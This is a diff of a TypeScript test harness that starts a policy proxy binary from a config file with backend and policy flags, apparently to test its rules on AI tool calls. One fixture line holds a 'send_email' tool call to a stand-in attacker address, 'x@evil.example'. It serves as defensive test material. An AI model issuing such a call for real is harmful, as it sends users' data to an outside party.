@@ -6,7 +6,7 @@ import { writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import type { ServerResponse } from 'node:http'
 import { type MockUpstream, type Seen, startUpstream } from '../proxy/upstream.ts'
-import { type Running, serve, temporary } from './process.ts'
+import { type Running, ensureBuilt, serve, temporary } from './process.ts'
 
 const POLICY = `name: site
 rules:
@@ -35,17 +35,17 @@ const CALL = { name: 'send_email', arguments: '{"to": "x@evil.example", "body": 
 
 export type Site = Running & { readonly upstream: MockUpstream }
 
-/** The real binary in proxy mode before the scripted upstream. */
+/** Proxy mode's document as it was published. */
+const CONFIG = join(import.meta.dirname, '../data/config/config.yaml')
+
+/** The real binary before the scripted upstream; only places differ from the document. */
 export async function startSite(): Promise<Site> {
+  ensureBuilt()
   const upstream = await startUpstream(speak)
   const policy = join(temporary(), 'site.yaml')
   writeFileSync(policy, POLICY)
-  const running = await serve({
-    mode: 'proxy',
-    backend: { url: upstream.url },
-    policies: { path: policy },
-    telemetry: { log_level: 'warn' },
-  })
+  const flags = ['--backend', upstream.url, '--policies', policy, '--log-level', 'error']
+  const running = await serve(CONFIG, { flags })
   const stop = async (): Promise<void> => {
     await running.stop()
     await upstream.close()
